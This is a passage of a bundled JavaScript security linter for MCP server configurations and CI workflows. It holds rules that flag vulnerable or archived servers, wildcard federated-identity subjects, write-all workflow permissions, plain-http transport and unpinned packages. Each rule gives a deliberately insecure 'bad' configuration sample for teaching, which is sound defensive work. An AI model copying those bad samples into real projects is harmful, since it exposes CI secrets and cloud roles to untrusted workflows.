        ecosystem: 'pypi',
        name: `mcp-server-${name}`,
        successor: archivedNames[name]
    }))
];
//# sourceMappingURL=vulnerable-servers.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/vulnerable-server.js


/** Servers with a known vulnerability, and reference servers that nobody mends any more. */
const vulnerableServer = {
    meta: {
        id: 'vulnerable-server',
        summary: 'MCP server has a known vulnerability or is archived',
        severity: 'warning',
        why: 'Bridges and servers have had vulnerabilities by which a malicious server, page or document runs commands on the machine that starts them. The archived reference servers get no security updates at all, and are still what most examples on the web name.',
        fix: 'Raise the version to the one that the finding names, or use the server of the vendor in place of the archived one.',
        securitySeverity: 7.5,
        references: [
            'https://nvd.nist.gov/vuln/detail/CVE-2025-6514',
            'https://github.com/modelcontextprotocol/servers-archived'
        ],
        bad: {
            file: '.mcp.json',
            text: '{\n  "mcpServers": {\n    "crm": {"command": "npx", "args": ["-y", "mcp-remote@0.1.15", "https://mcp.example.com/mcp"]}\n  }\n}\n'
        },
        good: {
            file: '.mcp.json',
            text: '{\n  "mcpServers": {\n    "crm": {"command": "npx", "args": ["-y", "mcp-remote@0.1.38", "https://mcp.example.com/mcp"]}\n  }\n}\n'
        }
    },
    check(facts, report) {
        for (const server of facts.mcpServers) {
            const problem = vulnerable_server_problemOf(server);
            if (!problem)
                continue;
            report({
                range: server.launch.targetText.range(),
                message: `${(0,server_label/* serverLabel */.K)(server)} runs ${problem.what}`,
                help: problem.help,
                subject: `${server.name} ${problem.subject}`
            });
        }
    }
};
function vulnerable_server_problemOf({ launch }) {
    if (!launch?.target || !launch.targetText)
        return undefined;
    const { ecosystem, target, version } = launch;
    const archived = archivedServers.find(entry => entry.ecosystem === ecosystem && entry.name === target);
    if (archived) {
        return {
            what: `${target}, which is archived and gets no security updates`,
            help: `Use ${archived.successor} instead.`,
            subject: target
        };
    }
    const vulnerable = vulnerableServers.find(entry => entry.ecosystem === ecosystem && entry.name === target);
    if (!vulnerable || version === undefined || !/^\d/.test(version))
        return undefined;
    if (vulnerable.fixed !== undefined && !isBefore(version, vulnerable.fixed))
        return undefined;
    return {
        what: `${target} ${version}: ${vulnerable.advisory}, ${vulnerable.summary}`,
        help: vulnerable.fixed === undefined
            ? 'No mended release is known: use another server.'
            : `Use ${vulnerable.fixed} or later.`,
        subject: vulnerable.advisory
    };
}
/** Compares dotted numbers; a pre-release comes before its release. */
function isBefore(version, fixed) {
    const numbers = (text) => text
        .replace(/[-+].*$/, '')
        .split('.')
        .map(part => Number.parseInt(part, 10) || 0);
    const a = numbers(version);
    const b = numbers(fixed);
    for (let i = 0; i < Math.max(a.length, b.length); i++) {
        const difference = (a[i] ?? 0) - (b[i] ?? 0);
        if (difference !== 0)
            return difference < 0;
    }
    return version.includes('-') && !fixed.includes('-');
}
//# sourceMappingURL=vulnerable-server.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/wildcard-subject.js


const wide = new Set([
    'anyone',
    'owner-prefix',
    'owner',
    'repository-prefix',
    'repository',
    'branches',
    'tags',
    'environments',
    'environment-prefix'
]);
/** A trust whose condition on the subject leaves the repository, or its branches, open. */
const wildcardSubject = {
    meta: {
        id: 'wildcard-subject',
        summary: 'Federated identity trusts more workflows than one branch or environment',
        severity: 'error',
        why: 'A federated identity has no secret: the subject of the token is all that decides who becomes it. With a wildcard in a flexible expression of Entra, in `StringLike` of AWS, or in a condition of Google Cloud, or without any condition on the subject, a workflow that nobody has reviewed gets a token: on a branch that was pushed a minute ago, in a new repository, or in a repository of somebody else.',
        fix: 'Name the one repository and the one environment (better) or branch: `repo:acme/app:environment:production`, compared with `eq` in Entra, with `StringEquals` in AWS, with `==` in Google Cloud. Give the environment reviewers and a rule on branches. For many repositories, make the condition on `job_workflow_ref` of one reviewed workflow, with its ref, together with the owner. One identity for each purpose is cheaper than one wide identity.',
        securitySeverity: 9,
        references: [
            'https://learn.microsoft.com/entra/workload-id/workload-identities-flexible-federated-identity-credentials',
            'https://docs.github.com/actions/reference/security/oidc',
            'https://docs.aws.amazon.com/IAM/latest/UserGuide/id_roles_create_for-idp_oidc.html',
            'https://cloud.google.com/iam/docs/workload-identity-federation-with-deployment-pipelines'
        ],
        bad: {
            file: 'federate.sh',
            text: [
                'az ad app federated-credential create --id "$APP_ID" --parameters @- <<\'EOF\'',
                '{',
                '  "name": "ci",',
                '  "issuer": "https://token.actions.githubusercontent.com",',
                '  "audiences": ["api://AzureADTokenExchange"],',
                '  "claimsMatchingExpression": {',
                '    "value": "claims[\'sub\'] matches \'repo:acme/*\'",',
                '    "languageVersion": 1',
                '  }',
                '}',
                'EOF',
                ''
            ].join('\n')
        },
        good: {
            file: 'federate.sh',
            text: [
                'az ad app federated-credential create --id "$APP_ID" --parameters @- <<\'EOF\'',
                '{',
                '  "name": "ci",',
                '  "issuer": "https://token.actions.githubusercontent.com",',
                '  "audiences": ["api://AzureADTokenExchange"],',
                '  "subject": "repo:acme@1234/app@56789:environment:production"',
                '}',
                'EOF',
                ''
            ].join('\n')
        }
    },
    checkAll(documents, report) {
        for (const facts of documents) {
            for (const subject of facts.federatedSubjects) {
                for (const admission of admissionsOf(subject)) {
                    if (!wide.has(admission.opening))
                        continue;
                    report(facts, {
                        ...problemAt(subject, admission.value),
                        message: `${where(subject)} lets in ${admission.who}${rights(subject)}`,
                        help: wildcard_subject_helpFor(subject, admission),
                        subject: subjectKey(subject, admission.opening)
                    });
                }
            }
        }
    }
};
function wildcard_subject_helpFor(subject, admission) {
    switch (subject.provider) {
        case 'entra':
            return "Compare with `eq` one whole subject, such as 'repo:OWNER/REPO:environment:production'.";
        case 'aws':
            return admission.value
                ? "Use StringEquals with one whole subject, such as 'repo:OWNER/REPO:environment:production'."
                : "Add StringEquals on the provider's `:sub` with one whole subject, such as 'repo:OWNER/REPO:environment:production'.";
        case 'gcp':
            return "Set attribute_condition to one repository and ref, such as assertion.sub == 'repo:OWNER/REPO:environment:production'.";
    }
}
//# sourceMappingURL=wildcard-subject.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/write-all-permissions.js
/** `permissions: write-all`: every scope, `id-token` among them. */
const writeAllPermissions = {
    meta: {
        id: 'write-all-permissions',
        summary: 'permissions: write-all',
        severity: 'warning',
        why: '`write-all` lets everything that runs in the job push code, publish packages and releases, change issues and deployments, and get an OIDC token for every cloud that trusts the repository. Whatever of it a compromised action or dependency can use, it will.',
        fix: 'Name the scopes that the jobs need, at the job that needs them: `permissions: {}` at the workflow, and for instance `contents: read` and `id-token: write` at the job.',
        securitySeverity: 7,
        references: [
            'https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions'
        ],
        bad: {
            file: '.github/workflows/ci.yml',
            text: `on: push
permissions: write-all
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: npm test
`
        },
        good: {
            file: '.github/workflows/ci.yml',
            text: `on: push
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: npm test
`
        }
    },
    check({ pipeline }, report) {
        if (pipeline?.system !== 'github')
            return;
        check(pipeline.permissions, 'every job of the workflow');
        for (const job of pipeline.jobs)
            check(job.permissions, `job '${job.id}'`);
        function check(permissions, who) {
            if (permissions?.all !== 'write')
                return;
            report({
                range: permissions.range,
                message: `${who} may write everything and get OIDC tokens`,
                help: 'Name the scopes that are needed, at the job that needs them.',
                subject: who
            });
        }
    }
};
//# sourceMappingURL=write-all-permissions.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/wrong-reference-syntax.js


/** A reference that this client does not expand: the server gets its text as the credential. */
const wrongReferenceSyntax = {
    meta: {
        id: 'wrong-reference-syntax',
        summary: 'A reference is written in the syntax of another MCP client',
        severity: 'warning',
        why: 'Each client expands references in its own syntax and leaves all others as they are. `${API_KEY}` in the configuration of opencode is no reference: the server gets these ten characters as its key, fails to log in, and the next thing that people try is the key itself in clear. It also tells the server which secrets there are.',
        fix: 'Write the reference as the client of this file reads it: `${NAME}` for Claude Code and Copilot CLI, `${env:NAME}` or `${input:name}` for VS Code, `${env:NAME}` for Cline and Roo Code, `{env:NAME}` for opencode, `$NAME` for Gemini CLI, `env_vars` or `bearer_token_env_var` for Codex. Where a vendor does not say what its client expands, the finding is only a note.',
        securitySeverity: 4.5,
        references: [
            'https://code.claude.com/docs/en/mcp',
            'https://code.visualstudio.com/docs/copilot/reference/mcp-configuration',
            'https://opencode.ai/docs/config/#variables'
        ],
        bad: {
            file: 'opencode.json',
            text: '{\n  "mcp": {\n    "search": {\n      "type": "remote",\n      "url": "https://mcp.example.com/mcp",\n      "headers": {"Authorization": "Bearer ${SEARCH_TOKEN}"}\n    }\n  }\n}\n'
        },
        good: {
            file: 'opencode.json',
            text: '{\n  "mcp": {\n    "search": {\n      "type": "remote",\n      "url": "https://mcp.example.com/mcp",\n      "headers": {"Authorization": "Bearer {env:SEARCH_TOKEN}"}\n    }\n  }\n}\n'
        }
    },
    check(facts, report) {
        const seen = new Set();
        for (const site of facts.credentialSites) {
            if (!site.server || site.server.origin === 'command')
                continue;
            const client = clientOfSite(site);
            for (const reference of referencesIn(site.value.text)) {
                const severity = severityOf(reference, site, client);
                const range = site.value.range(reference.start, reference.end);
                if (!severity || seen.has(range.start))
                    continue;
                seen.add(range.start);
                report(wrong_reference_syntax_problem(reference, site, client, range, severity));
            }
        }
    }
};
function severityOf(reference, site, client) {
    const server = site.server;
    const { syntax } = reference;
    if (isExpanded(reference, client))
        return undefined;
    if (server.expandedBy.includes('ci') &&
        (syntax === '${{ secrets.X }}' || syntax === '$(command)'))
        return undefined;
    if (server.expandedBy.includes('shell') && syntax !== '$input:x')
        return undefined;
    // Whoever reads the arguments expands headers and URLs among them too.
    if (!isOutsideArguments(site) && argumentsAreExpanded(server))
        return undefined;
    if (syntax === '$input:x')
        return 'warning';
    if (client.id === 'unknown')
        return undefined;
    // Several clients read `.mcp.json`; these two syntaxes are right for some of them.
    if (client.id === 'claude-code' && (syntax === '${env:X}' || syntax === '${input:x}'))
        return 'note';
    return client.dialect.certain ? 'warning' : 'note';
}
function wrong_reference_syntax_problem(reference, site, client, range, severity) {
    const { example, certain } = client.dialect;
    const known = client.id !== 'unknown';
    const right = example.includes('NAME') ? example.replace('NAME', reference.name) : example;
    const fixable = known &&
        certain &&
        example.includes('NAME') &&
        reference.syntax !== '$(command)' &&
        /^\w+$/.test(reference.name);
    return {
        range,
        severity,
        message: known
            ? certain || reference.syntax === '$input:x'
                ? `${client.title} does not expand '${reference.text}': the server gets it as it stands`
                : `${client.title} may not expand '${reference.text}': the vendor does not document this syntax`
            : `no client expands '${reference.text}': the server gets it as it stands`,
        help: known
            ? `Write ${right} instead.`
            : 'Write the reference as the client of this file reads it, such as ${input:name} for VS Code.',
        subject: `${(0,credentials/* shownName */.HD)(site.server?.name ?? '')} ${site.name === undefined ? '' : (0,credentials/* shownName */.HD)(site.name)} ${reference.text}`,
        ...(fixable && {
            fix: {
                description: `Write the reference as ${client.title} reads it`,
                edits: [{ start: range.start, end: range.end, newText: right }]
            }
        })
    };
}
//# sourceMappingURL=wrong-reference-syntax.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/index.js


















































/** All rules, by id in alphabetical order. */
const rules = [
    artifactLeaksCredentials,
    autoApprovedTools,
    broadFilesystem,
    broadSubject,
    configPrinted,
    configWrittenInScript,
    credentialInArguments,
    debugLoggingEnabled,
    gatewayBypass,
    hostMount,
    idTokenMissing,
    idTokenTooWide,
    idTokenUntrusted,
    idTokenUnused,
    ineffectiveWildcard,
    insecure_transport/* insecureTransport */.o,
    invalid_ignore/* invalidIgnore */.C,
    legacySubject,
    longLivedCloudCredential,
    looseIssuer,
    missingAudience,
    persistedCheckoutCredentials,
    pullRequestSubject,
    rootFilesystem,
    scriptInjection,
    secretInScript,
    secretOnCommandLine,
    secretPrinted,
    secretTooWide,
    secretsDump,
    secretsInherit,
    secretsServiceAccess,
    shellPipeline,
    staticGatewayToken,
    storedCredential,
    structuredSecret,
    tlsVerificationDisabled,
    tokenInJobEnv,
    unboundedFilesystem,
    unknownConfigKey,
    unmaskedSecret,
    unmatchableSubject,
    unpinnedAction,
    unpinned_server/* unpinnedServer */.R,
    unreadable_file/* unreadableFile */._,
    unused_ignore/* unusedIgnore */.B,
    vulnerableServer,
    wildcardSubject,
    writeAllPermissions,
    wrongReferenceSyntax
];
//# sourceMappingURL=index.js.map

/***/ }),

/***/ 40372:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   o: () => (/* binding */ insecureTransport),
/* harmony export */   s: () => (/* binding */ addressesOf)
/* harmony export */ });
/* harmony import */ var _credentials_index_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(94520);
/* harmony import */ var _server_label_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(95942);


/** A server that is reached without encryption over a network. */
const insecureTransport = {
    meta: {
        id: 'insecure-transport',
        summary: 'MCP server is reached without encryption',
        severity: 'warning',
        why: "Over `http://` anyone on the way reads the token and what the tools return, and can put in answers of their own, which the model takes for the server's. The addresses of the own machine and of containers on it are left alone.",
        fix: 'Use `https://`. A server in the own network can stand behind the gateway, which terminates TLS.',
        securitySeverity: 6,
        references: [
            'https://modelcontextprotocol.io/specification/2025-06-18/basic/transports',
            'https://cwe.mitre.org/data/definitions/319.html'
        ],
        bad: {
            file: '.mcp.json',
            text: '{\n  "mcpServers": {\n    "crm": {"type": "http", "url": "http://mcp.example.com/mcp"}\n  }\n}\n'
        },
        good: {
            file: '.mcp.json',
            text: '{\n  "mcpServers": {\n    "crm": {"type": "http", "url": "https://mcp.example.com/mcp"}\n  }\n}\n'
        }
    },
    check(facts, report) {
        for (const server of facts.mcpServers) {
            for (const url of addressesOf(server)) {
                const host = insecureHost(url.text);
                if (host === undefined)
                    continue;
                report({
                    range: url.range(),
                    message: `${(0,_server_label_js__WEBPACK_IMPORTED_MODULE_1__/* .serverLabel */ .K)(server)} is reached without encryption at ${(0,_credentials_index_js__WEBPACK_IMPORTED_MODULE_0__/* .shownName */ .HD)(host)}`,
                    help: 'Use https.',
                    subject: `${server.name} ${(0,_credentials_index_js__WEBPACK_IMPORTED_MODULE_0__/* .shownName */ .HD)(host)}`
                });
            }
        }
    }
};
/** The server's own address, also when a bridge is given it as an argument. */
function addressesOf(server) {
    if (server.url)
        return [server.url];
    const { launch } = server;
    if (!launch ||
        !/^(?:mcp-remote|supergateway|mcp-proxy|@pyroprompts\/mcp-stdio-to-streamable-http-adapter|mcp-remote-client)$/.test(launch.target ?? ''))
        return [];
    return launch.args.filter(({ text }) => /^(?:https?|wss?):\/\//i.test(text)).slice(0, 1);
}
/** The host of a plain `http` or `ws` address that is not of this machine or a container's name. */
function insecureHost(url) {
    const match = /^(?:http|ws):\/\/(?:[^/?#@]*@)?(\[[^\]]*\]|[^/?#:]*)/i.exec(url.trim());
    const host = match?.[1]?.toLowerCase();
    if (!host || /[${}%<>*]/.test(host))
        return undefined;
    if (/^(?:localhost|.*\.localhost|127(?:\.\d+){3}|0\.0\.0\.0|\[::1?\]|\[::ffff:127\.[\d.]+\])$/.test(host))
        return undefined;
    // A name without a dot is a container or service of the same network.
    if (!host.includes('.') && !host.startsWith('['))
        return undefined;
    if (/\.(?:docker\.internal|containers\.internal|svc|svc\.cluster\.local|cluster\.local)$/.test(host))
        return undefined;
    if (/(?:^|[.-])(?:your|my-(?:server|host|domain)|placeholder|hostname)(?:[.-]|$)|\.(?:test|invalid|example)$/.test(host))
        return undefined;
    return host;
}
//# sourceMappingURL=insecure-transport.js.map

/***/ }),

/***/ 86646:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   C: () => (/* binding */ invalidIgnore)
/* harmony export */ });
/** An ignore that does not hold. The engine reports it, since it reads the ignores. */
const invalidIgnore = {
    meta: {
        id: 'invalid-ignore',
        summary: 'An ignore has no reason, names no known rule or has ended',
        severity: 'warning',
        why: 'An ignore is a decision that somebody else has to understand a year later. Without a reason, with a mistyped rule, or after the day on which it was to end, it silences nothing; this finding says why.',
        fix: 'Write `mcp-gatehouse: ignore[rule-id] reason` in a comment on the line of the finding or alone on the line above; several rules are separated by commas. For an ignore of the configuration that has ended, mend the findings or give it a new day in `until`.',
        securitySeverity: 1,
        references: [],
        bad: {
            file: '.vscode/mcp.json',
            text: `{
  "servers": {
    "files": {
      "command": "npx",
      // mcp-gatehouse: ignore[root-filesystem]
      "args": ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "/"]
    }
  }
}
`
        },
        good: {
            file: '.vscode/mcp.json',
            text: `{
  "servers": {
    "files": {
      "command": "npx",
      // mcp-gatehouse: ignore[root-filesystem] runs in a container that holds only test data
      "args": ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "/"]
    }
  }
}
`
        }
    }
};
//# sourceMappingURL=invalid-ignore.js.map

/***/ }),

/***/ 943:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   R: () => (/* binding */ unpinnedServer),
/* harmony export */   Y: () => (/* binding */ isUnpinned)
/* harmony export */ });
/* harmony import */ var _credentials_index_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(94520);
/* harmony import */ var _server_label_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(95942);


/** Servers that are fetched anew with whatever version is the latest. */
const unpinnedServer = {
    meta: {
        id: 'unpinned-server',
        summary: 'MCP servers are fetched without an exact version',
        severity: 'note',
        why: "Without an exact version `npx`, `uvx` and `docker run` fetch whatever the package's owner, or who has taken over the account, published last. The server runs with the rights and the credentials of whoever starts it, and tools that were reviewed can change with the next start.",
        fix: 'Name the version: `package@1.2.3` for npm, `package==1.2.3` for Python, `image@sha256:…` for containers, `…@<commit>` for repositories; let a bot raise it. In a CI job it is a warning, since the job holds secrets.',
        securitySeverity: 4,
        references: [
            'https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-03-Dependency-Chain-Abuse',
            'https://docs.docker.com/dhi/core-concepts/digests/'
        ],
        bad: {
            file: '.mcp.json',
            text: '{\n  "mcpServers": {\n    "docs": {"command": "npx", "args": ["-y", "docs-mcp"]}\n  }\n}\n'
        },
        good: {
            file: '.mcp.json',
            text: '{\n  "mcpServers": {\n    "docs": {"command": "npx", "args": ["-y", "docs-mcp@1.2.3"]}\n  }\n}\n'
        }
    },
    check(facts, report) {
        const servers = facts.mcpServers.filter(({ launch }) => launch && isUnpinned(launch));
        const [first] = servers;
        if (!first)
            return;
        const list = servers.map(server => `${(0,_credentials_index_js__WEBPACK_IMPORTED_MODULE_0__/* .shownName */ .HD)(server.name)} (${(0,_server_label_js__WEBPACK_IMPORTED_MODULE_1__/* .targetLabel */ .O)(server)})`);
        const shown = list.length > 12 ? [...list.slice(0, 12), `and ${list.length - 12} more`] : list;
        report({
            range: rangeOf(first),
            message: `${servers.length === 1 ? 'an MCP server is' : `${servers.length} MCP servers are`} fetched without an exact version: ${shown.join(', ')}`,
            help: pinHelp(first),
            subject: servers
                .map(({ name }) => name)
                .sort()
                .join(' '),
            ...(servers.some(({ runsInCi }) => runsInCi) && { severity: 'warning' }),
            ...(servers.length > 1 && {
                related: servers
                    .slice(1)
                    .map(server => ({ message: (0,_credentials_index_js__WEBPACK_IMPORTED_MODULE_0__/* .shownName */ .HD)(server.name), range: rangeOf(server) }))
            })
        });
    }
};
function rangeOf(server) {
    return server.launch.targetText.range();
}
/** True for what is fetched from a registry or repository without a version that stays. */
function isUnpinned(launch) {
    const { ecosystem, version, target } = launch;
    if (!target || !launch.targetText || /[${%]/.test(target))
        return false;
    // A version out of a variable is pinned elsewhere.
    if (version !== undefined && /[${%]/.test(version))
        return false;
    switch (ecosystem) {
        case 'npm':
            return !/^v?\d+\.\d+\.\d+(?:[-+][\w.+-]+)?$/.test(version ?? '');
        case 'pypi':
            return !/^v?\d+(?:\.\d+)+(?:(?:a|b|rc|\.post|\.dev)\d+)?$/.test(version ?? '');
        case 'oci':
            return !/^sha256:[0-9a-f]{64}$/.test(version ?? '') && !/^v?\d+\.\d+\.\d+/.test(version ?? '');
        case 'git':
            return (!/^[0-9a-f]{40}(?:[0-9a-f]{24})?$/.test(version ?? '') &&
                !/^v\d+\.\d+\.\d+$/.test(version ?? ''));
        case 'url':
            return !/@v?\d+\.\d+\.\d+/.test(target);
        case 'unknown':
            return launch.runner === 'dnx' && !/^\d+\.\d+\.\d+/.test(version ?? '');
        case 'local':
            return false;
    }
}
function pinHelp({ launch }) {
    switch (launch.ecosystem) {
        case 'npm':
            return `Name the version: ${(0,_credentials_index_js__WEBPACK_IMPORTED_MODULE_0__/* .shownName */ .HD)(launch.target)}@1.2.3.`;
        case 'pypi':
            return `Name the version: ${(0,_credentials_index_js__WEBPACK_IMPORTED_MODULE_0__/* .shownName */ .HD)(launch.target)}==1.2.3.`;
        case 'oci':
            return 'Name the image by its digest: image@sha256:….';
        case 'git':
            return 'Name the commit: …@<40 hexadecimal digits>.';
        default:
            return 'Name an exact version.';
    }
}
//# sourceMappingURL=unpinned-server.js.map

/***/ }),

/***/ 84204:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   _: () => (/* binding */ unreadableFile)
/* harmony export */ });
/**
 * A file whose kind is certain from its name, but that cannot be read or parsed. The engine reports
 * it, since no facts exist for it; the rule holds the words.
 */
const unreadableFile = {
    meta: {
        id: 'unreadable-file',
        summary: 'A workflow, pipeline or MCP configuration cannot be read',
        severity: 'error',
        why: 'What cannot be parsed cannot be checked: a file that is broken for this tool may still be read by a more tolerant client, with everything in it. The search for known credentials ran over its text all the same.',
        fix: 'Mend the syntax at the given place. A file that is not meant to be valid, such as a template, can be left out with `exclude` in the configuration.',
        securitySeverity: 4,
        references: [],
        bad: {
            file: '.mcp.json',
            text: '{"mcpServers": {"docs": {"url": "https://mcp.example.com/docs" }\n'
        },
        good: {
            file: '.mcp.json',
            text: '{"mcpServers": {"docs": {"url": "https://mcp.example.com/docs"}}}\n'
        }
    }
};
//# sourceMappingURL=unreadable-file.js.map

/***/ }),

/***/ 20067:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   B: () => (/* binding */ unusedIgnore)
/* harmony export */ });
/** An ignore that silences nothing. The engine reports it, since it sees all findings. */
const unusedIgnore = {
    meta: {
        id: 'unused-ignore',
        summary: 'An ignore silences nothing',
        severity: 'note',
        why: 'An ignore that outlives its finding waits for the next one: a new credential in the same place would be accepted unseen, with a reason that was written for something else.',
        fix: 'Remove the ignore. If the finding has moved, move the comment with it: onto the same line, or alone onto the line above. Ignores of rules that did not run are not reported, nor are ignores of the configuration when only a part of the repository was linted.',
        securitySeverity: 1,
        references: [],
        bad: {
            file: '.vscode/mcp.json',
            text: `{
  "servers": {
    // mcp-gatehouse: ignore[root-filesystem] the container has nothing else
    "docs": { "url": "https://mcp.example.com/docs" }
  }
}
`
        },
        good: {
            file: '.vscode/mcp.json',
            text: `{
  "servers": {
    "docs": { "url": "https://mcp.example.com/docs" }
  }
}
`
        }
    }
};
//# sourceMappingURL=unused-ignore.js.map

/***/ }),

/***/ 95942:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   K: () => (/* binding */ serverLabel),
/* harmony export */   O: () => (/* binding */ targetLabel)
/* harmony export */ });
/* harmony import */ var _credentials_index_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(94520);

/** How messages name a server; a name that holds a credential is not repeated. */
function serverLabel(server) {
    return server.name === '' ? 'an MCP server' : `MCP server '${(0,_credentials_index_js__WEBPACK_IMPORTED_MODULE_0__/* .shownName */ .HD)(server.name)}'`;
}
/** What a server runs or reaches, for messages: its package, image, program or host. */
function targetLabel(server) {
    const { launch, url } = server;
    if (launch?.target !== undefined)
        return (0,_credentials_index_js__WEBPACK_IMPORTED_MODULE_0__/* .shownName */ .HD)(launch.target);
    const host = url && /^[a-z]+:\/\/(?:[^@/]*@)?([^/?#]+)/i.exec(url.text)?.[1];
    return host ? (0,_credentials_index_js__WEBPACK_IMPORTED_MODULE_0__/* .shownName */ .HD)(host) : 'unknown';
}
//# sourceMappingURL=server-label.js.map

/***/ }),

/***/ 33751:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   D: () => (/* binding */ MappedText),
/* harmony export */   s: () => (/* binding */ SourceFile)
/* harmony export */ });
/** A file under lint, decoded. Offsets of all nodes and facts refer to `text`. */
class SourceFile {
    /** Path relative to the linted root, with `/`. */
    path;
    text;
    lineStarts;
    constructor(path, text) {
        this.path = path;
        this.text = text;
    }
    position(offset) {
        const starts = this.starts();
        const clamped = Math.max(0, Math.min(offset, this.text.length));
        let low = 0;
        let high = starts.length - 1;
        while (low < high) {
            const middle = (low + high + 1) >> 1;
            if (starts[middle] <= clamped)
                low = middle;
            else
                high = middle - 1;
        }
        return { line: low + 1, column: clamped - starts[low] + 1 };
    }
    /** Text of a 1-based line, without its line break. */
    line(number) {
        const starts = this.starts();
        const start = starts[number - 1];
        if (start === undefined)
            return '';
        return this.text.slice(start, starts[number] ?? this.text.length).replace(/[\r\n]+$/, '');
    }
    /** Offset at which a 1-based line begins; the end of the text for a line behind the last. */
    lineStart(number) {
        return this.starts()[number - 1] ?? this.text.length;
    }
    get lineCount() {
        return this.starts().length;
    }
    starts() {
        if (this.lineStarts)
            return this.lineStarts;
        const starts = [0];
        for (let i = 0; i < this.text.length; i++) {
            const code = this.text.charCodeAt(i);
            if (code === 10 || (code === 13 && this.text.charCodeAt(i + 1) !== 10))
                starts.push(i + 1);
        }
        this.lineStarts = starts;
        return starts;
    }
}
/**
 * Text that was decoded from a file (a YAML block scalar, a JSON string, a here-document in one of
 * them) together with where each of its characters came from. Parsers read it and give their nodes
 * ranges of the *file*, so that embeddings nest to any depth and positions stay exact.
 */
class MappedText {
    text;
    file;
    /** Offsets in `text` at which a piece begins, ascending, first 0. */
    inner;
    /** Range of the file that each piece came from. Pieces of equal length map one to one. */
    outer;
    constructor(file, text, inner, outer) {
        this.file = file;
        this.text = text;
        this.inner = inner;
        this.outer = outer;
    }
    /** A stretch of the file as it stands. */
    static of(file, range = { start: 0, end: file.text.length }) {
        return new MappedText(file, file.text.slice(range.start, range.end), [0], [range]);
    }
    /** Text made of pieces; a piece whose text differs from its range in length is one escape. */
    static join(file, pieces, at) {
        const inner = [];
        const outer = [];
        const parts = [];
        let length = 0;
        for (const piece of pieces) {
            if (piece.text === '')
                continue;
            inner.push(length);
            outer.push(piece.range);
            parts.push(piece.text);
            length += piece.text.length;
        }
        if (inner.length === 0) {
            inner.push(0);
            outer.push({ start: at, end: at });
        }
        return new MappedText(file, parts.join(''), inner, outer);
    }
    /** Range of the file for a range of `text`. */
    range(start = 0, end = this.text.length) {
        const from = this.startOffset(start);
        return { start: from, end: Math.max(from, end > start ? this.endOffset(end) : from) };
    }
    /** The file offset at which character `index` of `text` begins. */
    startOffset(index) {
        const piece = this.pieceAt(index);
        const range = this.outer[piece];
        if (!this.isLinear(piece))
            return index > this.inner[piece] ? range.end : range.start;
        return Math.min(range.start + index - this.inner[piece], range.end);
    }
    /** The file offset at which the text before `index` ends. */
    endOffset(index) {
        if (index <= 0)
            return this.startOffset(0);
        const piece = this.pieceAt(index - 1);
        const range = this.outer[piece];
        if (!this.isLinear(piece))
            return range.end;
        return Math.min(range.start + index - this.inner[piece], range.end);
    }
    /** A part of this text that keeps its mapping. */
    slice(start, end = this.text.length) {
        if (this.inner.length === 1 && this.isLinear(0)) {
            const offset = this.outer[0].start;
            return MappedText.of(this.file, { start: offset + start, end: offset + Math.max(start, end) });
        }
        return this.compose([{ text: this.text.slice(start, end), start, end }]);
    }
    /**
     * Text decoded from this text: each piece names the stretch of `this.text` that it came from.
     * A piece with the text of its stretch keeps character positions; any other is one escape.
     */
    compose(pieces) {
        const result = [];
        for (const piece of pieces) {
            if (piece.text !== this.text.slice(piece.start, piece.end)) {
                result.push({ text: piece.text, range: this.range(piece.start, piece.end) });
                continue;
            }
            let position = piece.start;
            const last = Math.min(piece.end, this.text.length);
            while (position < last) {
                const index = this.pieceAt(position);
                const end = Math.min(last, this.inner[index + 1] ?? last);
                result.push({ text: this.text.slice(position, end), range: this.range(position, end) });
                position = end;
            }
        }
        return MappedText.join(this.file, result, this.startOffset(pieces[0]?.start ?? 0));
    }
    /** The pieces that the text is made of, to be joined with others. */
    pieces() {
        return this.inner.map((start, index) => ({
            text: this.text.slice(start, this.inner[index + 1] ?? this.text.length),
            range: this.outer[index]
        }));
    }
    isLinear(piece) {
        const length = (this.inner[piece + 1] ?? this.text.length) - this.inner[piece];
        const range = this.outer[piece];
        return range.end - range.start === length;
    }
    pieceAt(index) {
        let low = 0;
        let high = this.inner.length - 1;
        while (low < high) {
            const middle = (low + high + 1) >> 1;
            if (this.inner[middle] <= index)
                low = middle;
            else
                high = middle - 1;
        }
        return low;
    }
}
//# sourceMappingURL=source.js.map

/***/ })

};
